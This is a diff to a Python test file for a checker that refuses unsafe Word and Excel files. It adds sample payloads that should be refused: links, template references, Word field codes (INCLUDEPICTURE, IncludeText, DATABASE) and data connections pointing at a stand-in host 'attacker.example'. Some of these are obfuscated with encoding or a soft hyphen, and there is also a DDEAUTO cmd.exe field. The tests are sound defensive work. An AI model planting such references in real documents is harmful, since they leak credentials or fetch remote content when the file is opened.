@@ -62,6 +62,29 @@ UNSAFE: list[dict[str, bytes]] = [
     {RELATIONS: relation(LINK, "file://attacker.example/share/a.docx")},
     {RELATIONS: relation(LINK, "\\\\attacker.example\\share")},
     {RELATIONS: relation(LINK, "javascript:alert(1)")},
+    *(
+        {RELATIONS: relation(LINK, hidden)}
+        for hidden in ("%5C%5Cattacker.example", "file:%2F%2Fattacker.example/a", "f&#173;ile://attacker.example/a")
+    ),
+    {RELATIONS: relation(TEMPLATE, "file:///\\\\attacker.example\\a.dotm")},
+    {RELATIONS: relation(TEMPLATE, "file://attacker.example/c:/a.dotm")},
+    *(
+        {"word/document.xml": body(turn("begin") + code(fetched) + turn("separate") + turn("end"))}
+        for fetched in (
+            ' INCLUDEPICTURE "http://attacker.example/a.png" \\d ',
+            'IncludeText "\\\\\\\\attacker.example\\\\a.docx"',
+            "IMPORT \\\\\\\\attacker.example\\\\a.png",
+            'DATABASE \\d "\\\\\\\\attacker.example\\\\a.mdb"',
+            'LINK Excel.Sheet.12 "C:\\\\a.xlsx"',
+            'HYPERLINK "\\\\\\\\attacker.example\\\\share"',
+        )
+    ),
+    {"word/document.xml": body('<w:fldSimple w:instr="INCLUDEPICTURE &quot;https://attacker.example/a&quot;"/>')},
+    {
+        "word/document.xml": body(
+            turn("begin") + code("INCLUDEPICTURE ") + turn("begin") + code('QUOTE "http:"') + turn("end") + turn("end")
+        )
+    },
     {RELATIONS: relation("http://x/aFChunk", "chunk.html", "Internal")},
     {"word/document.xml": body('<w:altChunk r:id="r1" xmlns:r="x"/>')},
     {"word/document.xml": body('<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe "/>')},
@@ -91,9 +114,20 @@ def test_a_workbook_that_calls_programs_or_other_files_is_refused() -> None:
     for parts in (
         {"xl/_rels/workbook.xml.rels": relation("http://x/externalLink", "externalLinks/externalLink1.xml", "")},
         {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="x"><ddeLink ddeService="cmd"/></externalLink>'},
+        {"xl/connections.xml": connection('<webPr url="http://attacker.example"/>')},
+        {"xl/connections.xml": connection('<dbPr connection="Data Source=\\\\attacker.example\\a"/>')},
     ):
         with pytest.raises(OfficeUnsafe):
             kind_of(office("spreadsheet", parts))
+
+
+def test_a_table_made_of_another_in_the_same_workbook_is_taken() -> None:
+    within = connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=a"/>')
+    assert kind_of(office("spreadsheet", {"xl/connections.xml": within})) == XLSX
+
+
+def connection(how: str) -> bytes:
+    return f'<connections xmlns="x"><connection id="1" refreshOnLoad="1">{how}</connection></connections>'.encode()
 
 
 def test_macros_are_found_by_their_type_whatever_the_part_is_called() -> None:
@@ -110,6 +144,18 @@ ORDINARY: list[dict[str, bytes]] = [
     {RELATIONS: relation(LINK, "mailto:motcua@example.vn")},
     {RELATIONS: relation(LINK, "file:///C:/Users/Lan/giay.docx")},
     {RELATIONS: relation("http://x/image", "media/image1.png", "Internal")},
+    {RELATIONS: relation("http://x/image", "file:///C:\\Users\\Lan\\AppData\\Local\\Temp\\clip_image001.png")},
+    {"word/_rels/settings.xml.rels": relation(TEMPLATE, "file:///C:\\Users\\Lan\\Templates\\Mẫu đơn.dotx")},
+    *(
+        {"word/document.xml": body(turn("begin") + code(pasted) + turn("separate") + turn("end"))}
+        for pasted in (
+            'INCLUDEPICTURE "C:\\\\Users\\\\Lan\\\\clip_image001.png" \\* MERGEFORMATINET',
+            'INCLUDEPICTURE "cid:image001.png@01D7" \\* MERGEFORMATINET',
+            'INCLUDEPICTURE "/var/folders/x/clip_image001.png" \\* MERGEFORMATINET',
+            'HYPERLINK "https://dichvucong.gov.vn/" \\o "Cổng"',
+            "TIME \\@ &quot;dd/MM/yyyy&quot;",
+        )
+    ),
     {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": office("spreadsheet")},
     {"word/media/image1.emz": gzip.compress(b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(100_000))},
     {"word/media/image1.wmz": gzip.compress(b"\xd7\xcd\xc6\x9a" + bytes(100))},
